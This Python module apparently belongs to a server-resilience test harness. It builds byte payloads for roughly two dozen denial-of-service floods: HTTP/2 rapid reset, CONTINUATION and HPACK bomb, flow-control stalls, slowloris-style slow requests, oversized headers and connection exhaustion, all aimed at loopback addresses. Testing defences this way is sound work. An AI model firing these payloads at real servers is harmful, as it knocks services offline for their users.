"""What each flood sends: bytes, made once."""

import random
import struct
from collections import namedtuple

# `reads`: it takes what is answered; else its window and its socket fill. `source`: gives the address of each connection.
Flood = namedtuple("Flood", "opening burst reads connections pause source", defaults=(True, 1, 0, None))

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, first=0):
    """A header without Huffman's code; both shorter than 127 bytes, or the value of a known length."""
    out = bytes([first, len(name)]) + name
    if len(value) < 127:
        return out + bytes([len(value)]) + value
    rest, number = b"", len(value) - 127
    while number >= 128:
        rest += bytes([number % 128 | 128])
        number //= 128
    return out + b"\x7f" + rest + bytes([number]) + value


def get(stream, path, flags=5):
    fields = ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path))
    return frame(1, flags, stream, b"".join(literal(*field) for field in fields))


def number(value):
    return struct.pack(">I", value)


def asks(path):
    return b"GET " + path + b" HTTP/1.1\r\nhost: a\r\n\r\n"


def anybody():
    return f"127.{random.randint(10, 250)}.{random.randint(0, 255)}.{random.randint(1, 254)}"


def crowded(stream):
    """A request with more headers than may be."""
    block = get(stream, b"/")[9:] + literal(b"x", b"y") * 500
    return frame(1, 5, stream, block)


HELLO = PREFACE + frame(4, 0, 0)
SLOW = b"/?delay=1h"
NO_WINDOW = frame(4, 0, 0, struct.pack(">HI", 4, 0))
ONE_BYTE = frame(4, 0, 0, struct.pack(">HI", 4, 1))
STREAMS = range(1, 2001, 2)
BOMB = b"".join(literal(*field) for field in ((b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/")))
BOMB += literal(b"x", b"a" * 4000, 0x40)
BOMB += b"\xbe" * (16000 - len(BOMB))

FLOODS = {
    # Nobody: the flooding process alone, which takes a CPU. What is no more than this is not the flood's doing.
    "nobody": Flood(b"", b"", True, 0),
    "rapid_reset": Flood(HELLO + b"".join(get(n, SLOW) + frame(3, 0, n, number(8)) for n in STREAMS),
                         frame(6, 0, 0, bytes(8))),
    "made_you_reset": Flood(
        HELLO + b"".join(get(n, SLOW) + frame(8, 0, n, number(0x7fffffff)) for n in STREAMS),
        frame(6, 0, 0, bytes(8))),
    "continuation": Flood(HELLO + frame(1, 1, 1, literal(b"x", b"y")), frame(9, 0, 1, literal(b"x", b"y")) * 1000),
    "settings": Flood(HELLO, frame(4, 0, 0) * 1000),
    "ping": Flood(HELLO, frame(6, 0, 0, bytes(8)) * 1000),
    "priority": Flood(HELLO, frame(2, 0, 1, bytes(5)) * 1000),
    "unknown_frame": Flood(HELLO, frame(99, 0, 1) * 1000),
    "empty_data": Flood(HELLO + get(1, SLOW, 4), frame(0, 0, 1) * 1000),
    "window_update": Flood(HELLO + NO_WINDOW + get(1, b"/?size=10000000"), frame(8, 0, 1, number(1)) * 1000),
    "hpack": Flood(HELLO, frame(1, 5, 1, BOMB)),
    "stalled_stream": Flood(HELLO + NO_WINDOW + b"".join(get(n, b"/?size=10000000") for n in range(1, 201, 2)),
                            frame(6, 0, 0, bytes(8)), True, 10, 0.1),
    "one_byte_windows": Flood(HELLO + ONE_BYTE + b"".join(get(n, b"/?size=10000000") for n in range(1, 201, 2)),
                              frame(6, 0, 0, bytes(8)), True, 10, 0.1),
    "slow_head": Flood(b"GET / HTTP/1.1\r\n", b"x: y\r\n", True, 200, 0.5),
    "slow_body": Flood(b"POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: 1000\r\n\r\n", b"", True, 200, 0.5),
    "slow_reader": Flood(b"GET /?size=100000000 HTTP/1.1\r\nhost: a\r\n\r\n", b"", False, 100, 0.5),
    "pipelining": Flood(b"", b"GET /?size=100000 HTTP/1.1\r\nhost: a\r\n\r\n" * 1000, False, 10),
    "connections": Flood(b"", b"", True, 500),
    # Requests, held to the limits of their routes (proxies.py).
    "one_address": Flood(b"", asks(b"/limited") * 100, True, 10, 0, lambda: "127.9.9.9"),
    "many_addresses": Flood(b"", asks(b"/shared") * 10, True, 50, 0, anybody),
    "expensive_path": Flood(asks(b"/expensive?delay=1s") * 10, b"", True, 100, 0.05, anybody),
    "large_head": Flood(b"", b"GET / HTTP/1.1\r\nhost: a\r\nx: " + b"a" * 100_000 + b"\r\n\r\n", True, 10),
    "many_headers": Flood(b"", b"GET / HTTP/1.1\r\nhost: a\r\n" + b"x: y\r\n" * 1000 + b"\r\n", True, 10),
    "many_headers_h2": Flood(HELLO + b"".join(crowded(n) for n in range(1, 199, 2)), frame(6, 0, 0, bytes(8))),
}
